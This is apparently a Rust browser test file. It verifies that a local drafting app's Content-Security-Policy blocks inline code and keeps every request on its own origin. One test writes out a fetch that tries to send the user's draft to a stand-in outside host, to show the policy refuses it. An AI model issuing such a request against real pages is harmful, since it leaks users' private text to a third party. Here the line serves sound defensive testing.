//! Nothing leaves the device, and the page could not if it tried.

use anyhow::{Result, ensure};
use reply_coach_browser_tests::at_a_desk;

#[test]
fn the_policy_is_there_and_no_code_is_inline() -> Result<()> {
    at_a_desk(|page| {
        let policy =
            page.ask("return document.querySelector('meta[http-equiv=Content-Security-Policy]').content")?;
        let policy = policy.as_str().unwrap_or_default();
        ensure!(policy.starts_with("default-src 'none'"), "{policy}");
        ensure!(!policy.contains("unsafe-inline") && !policy.contains("'unsafe-eval'"), "{policy}");
        ensure!(!policy.contains("http:") && !policy.contains("https:") && !policy.contains('*'), "{policy}");
        let inline = "return document.querySelectorAll('script:not([src]), style, [onclick]').length";
        ensure!(page.ask(inline)? == 0, "something is inline");
        Ok(())
    })
}

#[test]
fn nothing_leaves_the_origin() -> Result<()> {
    at_a_desk(|page| {
        page.type_text("You should have saved it first. ")?;
        page.until_stored()?;
        page.reload()?;
        let loaded = "return performance.getEntriesByType('resource').map((entry) => entry.name).filter((name) => !name.startsWith(location.origin))";
        ensure!(page.ask(loaded)? == serde_json::json!([]), "the page loaded something from elsewhere");
        ensure!(page.heard_outside().is_empty(), "{:?}", page.heard_outside());
        page.no_errors()
    })
}

/// The test above hears something when there is something to hear, and the policy is what keeps the page silent.
#[test]
fn an_attempt_to_leave_is_refused_by_the_policy_and_heard_without_it() -> Result<()> {
    at_a_desk(|page| {
        let attempt = "fetch('http://elsewhere.example/?draft').then(() => 'sent', () => 'refused')";
        ensure!(page.ask_later(attempt)? == "refused", "the page could reach elsewhere");
        ensure!(page.heard_outside().is_empty(), "{:?}", page.heard_outside());

        let address = format!("{}nowhere", page.site.origin());
        page.goto(&address)?;
        page.ask_later(attempt)?;
        ensure!(
            page.heard_outside().iter().any(|line| line.contains("elsewhere.example")),
            "nothing was heard"
        );
        Ok(())
    })
}
